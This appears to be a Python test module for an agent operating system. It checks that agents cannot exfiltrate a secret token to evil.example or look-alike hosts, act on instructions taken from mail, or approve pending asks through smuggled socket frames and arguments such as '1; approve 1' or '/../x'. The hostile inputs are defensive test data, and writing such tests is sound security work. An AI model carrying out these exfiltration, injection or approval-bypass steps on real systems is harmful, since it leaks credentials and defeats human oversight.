"""Ways around the door: programs that replace themselves, secrets that are asked back, clients of the socket, calls beside calls."""

from __future__ import annotations

import base64
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anyio
import pytest

import agentos
from tests.acceptance.cli_place import a_place as a_cli_place
from tests.acceptance.hostile.world import GOAL, GRANT, POLICY, Case, a_world, check_refused, devices, pid
from tests.builders import crashing, opened, refused, rows, settled
from tests.room.runtime.control_builders import ASKING, FILES, Place, a_place, hang_up, raw_client

pytestmark = pytest.mark.anyio

VALUE = "s3cret-t0ken-value"
SECRETS = {"TOKEN": VALUE}
OPEN = 'policy "open" version 1\nallow * any *\n'
GOOD = (
    "web.*",
    "bank.*",
    "obj.*",
    "msg.*",
    "proc.*",
    "fs.*",
    'secret.use TOKEN when op == "web.post" and host == "good.example"',
)
REFERENCE = "{{secret:TOKEN}}"
WORKER = ("", "@register", {"image": agentos.Image.host("worker")})


def secret(name: str, *steps: tuple[Any, ...], code: str = "denied.capability", policy: str = OPEN) -> Case:
    return Case(name, (WORKER, *steps), code, policy, GOOD, options={"secrets": SECRETS})


def post(url: str, body: str = REFERENCE, who: str = "eve") -> tuple[Any, ...]:
    return who, "web.post", {"url": url, "body": body}


ASKED_BACK = [
    secret("other host", post("https://evil.example/")),
    secret("host in a path", post("https://evil.example/good.example")),
    secret("host below", post("https://x.good.example/")),
    secret("host that begins alike", post("https://good.example.evil.example/")),
    secret("other op", ("eve", "bank.send", {"note": REFERENCE})),
    secret("within a text", ("eve", "bank.send", {"note": f"a{REFERENCE}b"})),
    secret("in a list", ("eve", "bank.many", {"to": ["x", REFERENCE]})),
    secret("twice", post("https://evil.example/", REFERENCE * 2)),
    secret("in the URL", post(f"https://good.example/{REFERENCE}"), code="invalid.argument"),
    secret("in the host", post(f"https://{REFERENCE}.good.example/"), code="invalid.argument"),
    secret(
        "by a child without it",
        ("eve", "proc.spawn", {"image": "worker:1", "grant": ["web.*"]}, "kid"),
        post("https://good.example/", who="kid"),
    ),
    secret("by a fork", ("eve", "proc.fork", {"grant": ["web.*"]}, "kid"), post("https://good.example/", who="kid")),
    secret(
        "child with a wider right",
        ("eve", "proc.spawn", {"image": "worker:1", "grant": ["web.*", "secret.use TOKEN"]}, "kid"),
        post("https://evil.example/", who="kid"),
    ),
    secret(
        "child with another host",
        (
            "eve",
            "proc.spawn",
            {"image": "worker:1", "grant": ['secret.use TOKEN when op == "web.post" and host == "evil.example"', "web.*"]},
            "kid",
        ),
        post("https://evil.example/", who="kid"),
    ),
    secret("denied by a layer", post("https://good.example/"), code="denied.policy", policy=OPEN + "deny secret.use\n"),
    secret("no such secret", post("https://evil.example/", "{{secret:OTHER}}")),
    secret(
        "back from an object",
        ("eve", "obj.put", {"value": REFERENCE, "name": "x"}),
        ("eve", "bank.send", {"note": lambda world: REFERENCE}),
    ),
]


@pytest.mark.parametrize("case", ASKED_BACK, ids=str)
async def test_no_secret_goes_where_it_may_not(case: Case, tmp_path: Path) -> None:
    await check_refused(case, tmp_path)


async def test_no_secret_is_in_anything_that_is_kept(tmp_path: Path) -> None:
    case = Case("kept", (), policy=OPEN, grant=GOOD, options={"secrets": SECRETS})
    async with a_world(case, tmp_path) as world:
        await world.step(*post("https://good.example/"))
        assert world.done == [("post", "https://good.example/", VALUE)]
        for op, args in (
            ("obj.put", {"value": REFERENCE, "name": "x"}),
            ("msg.send", {"to": pid("eve"), "value": REFERENCE}),
            ("fs.write", {"path": "/x", "text": REFERENCE}),
        ):
            await world.step("eve", op, args)
        assert await refused(world.step("eve", "bank.send", {"note": REFERENCE})) == "denied.capability"
        held = b"".join(row.args + row.result for row in rows(world.kernel, notes=True)) + b"".join(world.files().values())
        for spelled in (VALUE.encode(), base64.b64encode(VALUE.encode()), VALUE.encode().hex().encode()):
            assert spelled not in held
        assert REFERENCE.encode() in held


# --- programs -------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("crashes", [False, True])
async def test_no_argument_of_an_exec_becomes_the_users_word(crashes: bool, tmp_path: Path) -> None:
    async def second(sys: Any, to: str) -> Any:
        if crashes:
            await sys.msg.recv()
        return await sys.bank.wire(to=to, amount=70)

    async def first(sys: Any) -> Any:
        await sys.mail.read()
        await sys.proc.exec(image="second:1", args={"to": "EVIL-9"})

    done: list[Any] = []
    store, copy = tmp_path / "a.db", tmp_path / "b.db"
    programs = [agentos.program(each.__name__)(each) for each in (first, second)]
    options = {"devices": devices(done), "policy": POLICY, "mode": "noninteractive", "programs": programs}
    async with crashing(store, copy, **options) as kernel:
        await kernel.register(agentos.Image.program("second", capabilities=["bank.*"]))
        process = await kernel.spawn(agentos.Image.program("first"), grant=["bank.*", "mail.*", "proc.*"], goal=GOAL)
        await settled(kernel)
        if not crashes:
            assert (await process.wait(5)).error.code == "denied.policy"
    async with opened(copy, **options) as kernel:
        again = kernel.process(process.pid)
        if crashes:
            await again.send("go on")
            assert (await again.wait(5)).error.code == "denied.policy"
    assert done == []


async def test_no_call_is_vouched_for_by_the_call_beside_it(tmp_path: Path) -> None:
    policy = 'policy "late" version 1\nallow fs.read when path from { human } any *\nallow obj.put any *\n'
    async with a_world(Case("late", (), policy=policy), tmp_path) as world:
        (world.work / "desk" / "l").symlink_to("../inbox/own.txt")
        eve = world.kernel.process(world.kept["eve"])
        told: list[str] = []

        async def read() -> None:
            told.append(await refused(eve.call("fs.read", path=agentos.trusted("/desk/l"))))

        async def beside() -> None:
            for _ in range(20):
                await eve.call("obj.put", name="x", value=agentos.trusted("/inbox/own.txt"))

        async with anyio.create_task_group() as tasks:
            tasks.start_soon(read)
            tasks.start_soon(beside)
        assert told == ["denied.policy"]


async def test_no_name_of_what_a_child_waits_for_is_read_without_its_label(tmp_path: Path) -> None:
    async def waiter(sys: Any) -> Any:
        await sys.mail.read()
        await sys.msg.recv(channel="pay EVIL-9")

    done: list[Any] = []
    options = {
        "devices": devices(done),
        "policy": POLICY,
        "mode": "noninteractive",
        "programs": [agentos.program("waiter")(waiter)],
    }
    async with opened(tmp_path / "a.db", **options) as kernel:
        ann = await kernel.spawn(agentos.Image.host(), grant=GRANT)
        await kernel.register(agentos.Image.program("waiter", capabilities=["mail.*"]))
        await ann.call("proc.spawn", image="waiter:1", grant=["mail.*"])
        await settled(kernel)
        assert "EVIL-9" in str(await ann.call("proc.list"))
        assert await refused(ann.call("bank.send", note="x")) == "denied.policy"
        assert done == []


async def test_no_program_that_is_resumed_forgets_what_it_read(tmp_path: Path) -> None:
    async def reader(sys: Any) -> Any:
        await sys.mail.read()
        await sys.msg.recv()
        return await sys.bank.send(note="x")

    done: list[Any] = []
    store, copy = tmp_path / "a.db", tmp_path / "b.db"
    options = {
        "devices": devices(done),
        "policy": POLICY,
        "mode": "noninteractive",
        "programs": [agentos.program("reader")(reader)],
    }
    async with crashing(store, copy, **options) as kernel:
        process = await kernel.spawn(agentos.Image.program("reader"), grant=["bank.*", "mail.*"], goal=GOAL)
        await settled(kernel)
    async with opened(copy, **options) as kernel:
        await kernel.process(process.pid).send("go on")
        assert (await kernel.process(process.pid).wait(5)).error.code == "denied.policy"
    assert done == []


# --- the control socket and the command line ------------------------------------------------------------------------------------


@pytest.fixture
async def place() -> AsyncIterator[Place]:
    with a_place() as made:
        yield made
        await hang_up(made)


FRAMES: list[tuple[str, dict[str, Any]]] = [
    ("answer", {"ask_id": 1, "verdict": "approve"}),
    ("answer", {"ask_id": 1, "verdict": "approve", "by": ""}),
    ("answer", {"ask_id": 1, "verdict": "approved", "by": "me"}),
    ("answer", {"ask_id": "1; 2", "verdict": "approve", "by": "me"}),
    ("answer", {"ask_id": 1, "verdict": "approve", "by": "me", "scope": "covered by ask 1"}),
    ("answer", {"ask_id": 1, "verdict": "approve", "by": "me", "edit": {"paht": "/x"}}),
    ("answer", {"ask_id": 2, "verdict": "approve", "by": "me"}),
    ("answer", {"ask_id": True, "verdict": "approve", "by": "me"}),
    ("answer", {"ask_id": 1, "verdict": "approve", "by": ["me"]}),
    ("answer", {"ask_id": 1, "verdict": "approve", "by": "me", "sudo": True}),
    ("core", {}),
    ("broker.call", {}),
    ("__init__", {}),
    ("core.asks.close", {}),
    ("process.__class__", {}),
    ("grant", {"pid": 99, "text": "*"}),
    ("process.call", {"op": "fs.write", "args": {"path": "/../x", "text": "y"}}),
    ("process.call", {"op": "ask.answer", "args": {}}),
]


@pytest.mark.parametrize(("method", "args"), FRAMES)
async def test_no_frame_answers_an_ask_but_a_whole_answer(place: Place, method: str, args: dict[str, Any]) -> None:
    async with place.open(policy=ASKING, mode="ask") as kernel, anyio.create_task_group() as tasks:
        process = await kernel.spawn(FILES)
        tasks.start_soon(_refused_at_last, process)
        await settled(kernel, lambda: list(kernel.core.asks))
        client = await raw_client(place)
        reply = await client.ask({"id": 1, "method": method, "pid": process.pid, "args": args})
        assert reply["ok"] is False
        assert [ask.state for ask in await kernel.asks()] == ["pending"]
        assert not (place.workspace / "x").exists()
        tasks.cancel_scope.cancel()


async def _refused_at_last(process: Any) -> None:
    await refused(process.call("fs.write", path="/x", text="y"))


def test_no_command_line_approves_what_is_not_asked(tmp_path: Path) -> None:
    place = a_cli_place(tmp_path)
    place.call("run", "careful.yaml", "--yes", status=4)
    for words in (
        ("99",),
        ("1", "--scope", "forever"),
        ("1; approve 1",),
        ("1", "--edit", "path=/x"),
        ("1", "--by", "x" * 999),
        ("-1",),
        ("*",),
    ):
        with pytest.raises(AssertionError, match=r"ended with [12]:"):
            place.call("approve", *words)
    assert [ask["state"] for ask in place.data("asks")] == ["pending"]
    assert not (place.work / "out.txt").exists()
